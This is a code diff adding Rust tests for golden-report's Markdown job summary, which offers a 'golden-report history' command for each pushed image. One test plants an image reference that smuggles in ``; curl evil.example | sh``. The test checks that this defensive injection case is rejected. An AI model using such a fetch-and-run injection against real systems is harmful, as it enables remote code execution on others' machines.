@@ -1,7 +1,7 @@
 //! Snapshots of the Markdown, and the limits it must respect.
 
 use golden_report::comment;
-use golden_report::escape::ZWJ;
+use golden_report::escape::{ZWJ, md};
 use golden_report::markdown::{COMMENT_LIMIT, RenderOptions, render};
 
 use crate::fixtures::{self, write_set};
@@ -285,5 +285,87 @@ fn packages_per_ecosystem_in_the_image_details() {
     assert!(
         md.contains("**Packages**: 156 (dpkg 120, maven 36)"),
         "{md}"
+    );
+}
+
+/// Pushed images: the job summary gives each one's `golden-report history` command once,
+/// after the details (the index for a multi-arch image); the PR comment does not.
+#[test]
+fn pushed_images_give_their_audit_history_command_in_the_job_summary() {
+    use golden_contracts::Document;
+    use golden_contracts::push::Arch;
+    let dir = tempfile::tempdir().unwrap();
+    crate::site::write_pushed(dir.path());
+    let base = fixtures::green().remove(0);
+    let base_push = crate::site::push(&base, Arch::Amd64, false);
+    let r = report(dir.path(), None);
+    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
+    let index = fixtures::digest("nginx-index");
+    for (id, reference) in [
+        ("nginx-1.26-debian", format!("r.io/golden/nginx@{index}")),
+        ("base-debian", base_push.reference.clone().unwrap()),
+    ] {
+        let line = format!("- **{id}**: `golden-report history {reference}`");
+        assert_eq!(summary.matches(&line).count(), 1, "{line}\n{summary}");
+    }
+    assert_eq!(summary.matches("golden-report history").count(), 2);
+    assert_eq!(summary.matches("**Audit history**").count(), 1);
+    // After the details, before the footer.
+    let at = |s: &str| summary.find(s).unwrap_or_else(|| panic!("{s}: {summary}"));
+    assert!(at("</details>") < at("**Audit history**"));
+    assert!(at("**Audit history**") < at("_Report by golden-report"));
+    let data = golden_report::pr_comment::CommentData::from_report(&r);
+    let comment = golden_report::pr_comment::render(&data, Some(RUN_URL), 40);
+    assert!(!comment.contains("golden-report history"), "{comment}");
+
+    // A reference that is not a plain one is never offered as a command.
+    let mut evil = base_push.clone();
+    evil.reference = Some(format!(
+        "r.io/golden/base`; curl evil.example | sh #@{}",
+        base_push.digest.clone().unwrap()
+    ));
+    evil.write(&dir.path().join("push-base/push-record.json"))
+        .unwrap();
+    let r = report(dir.path(), None);
+    let summary = render(&r, &RenderOptions::job_summary(Some(RUN_URL.into())));
+    assert_eq!(
+        summary.matches("golden-report history").count(),
+        1,
+        "{summary}"
+    );
+    assert!(!summary.contains("curl"), "{summary}");
+}
+
+/// Many pushed images: one command and the pattern, not a line each.
+#[test]
+fn many_pushed_images_get_one_audit_history_command_and_the_pattern() {
+    use golden_contracts::Document;
+    use golden_contracts::push::Arch;
+    let dir = tempfile::tempdir().unwrap();
+    let imgs: Vec<fixtures::Img> = (0..25)
+        .map(|n| fixtures::Img::new(&format!("img-{n:02}"), "debian", &format!("p{n:02}"), "1"))
+        .collect();
+    write_set(dir.path(), &imgs);
+    for i in &imgs {
+        crate::site::push(i, Arch::Amd64, false)
+            .write(&dir.path().join(format!("push-{}/push-record.json", i.id)))
+            .unwrap();
+    }
+    let r = report(dir.path(), None);
+    assert_eq!(r.digests.len(), 25);
+    let summary = render(&r, &RenderOptions::job_summary(None));
+    let first = &r.summary.images[0];
+    assert_eq!(
+        summary.matches("golden-report history").count(),
+        2,
+        "{summary}"
+    );
+    assert!(
+        summary.contains(&format!(
+            "`golden-report history {}` for **{}**, and `golden-report history REGISTRY/REPOSITORY@DIGEST` for each of the 24 other pushed images",
+            r.digests[&first.id],
+            md(&first.id)
+        )),
+        "{summary}"
     );
 }
